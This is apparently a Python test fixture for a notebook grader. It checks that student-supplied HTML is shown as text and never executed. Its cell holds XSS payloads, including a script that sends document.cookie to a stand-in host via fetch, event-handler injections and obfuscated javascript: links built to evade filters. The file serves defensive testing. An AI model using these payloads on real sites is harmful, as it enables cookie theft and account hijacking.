"""Shows HTML with scripts, handlers and links that run code.

Holds: what a student's code shows, says or is called is text to whoever opens it: nothing in it runs.
"""

from tests.hostile.case import TENSORS

DESERVES = {"tensors": 10}
CELLS = {
    "tensors": TENSORS,
    "after tensors": r"""
from IPython.display import HTML, display

display(HTML("<script>document.title = 'hostile_script'; fetch('https://evil.example/' + document.cookie)</script>"))
display(HTML("<img src=x onerror='hostile_script()'><b onmouseover=hostile_script()>x</b>"))
display(HTML("<a href='javascript:hostile_script()'>x</a> <a href='java\nscript:hostile_script()'>y</a>"))
display(HTML("<a href=' &#106;avascript:hostile_script()'>z</a><details open ontoggle=hostile_script()>x</details>"))
display(HTML("<body onload=hostile_script()><input autofocus onfocus=hostile_script()><marquee onstart=hostile_script()>"))
display(HTML("<scr<script>ipt>hostile_script()</scr</script>ipt><IMG SRC=x OnErRoR=hostile_script()>"))
""",
}
